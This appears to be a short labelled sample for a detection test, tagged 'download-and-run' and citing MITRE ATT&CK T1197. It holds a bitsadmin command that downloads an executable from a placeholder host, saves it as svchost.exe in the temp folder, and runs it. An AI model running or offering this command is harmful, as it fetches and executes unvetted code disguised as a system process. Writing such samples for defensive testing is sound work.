@rem expect: download-and-run | source: MITRE ATT&CK T1197
bitsadmin /transfer job /download /priority high http://files.example.invalid/a.exe %TEMP%\svchost.exe
start "" %TEMP%\svchost.exe
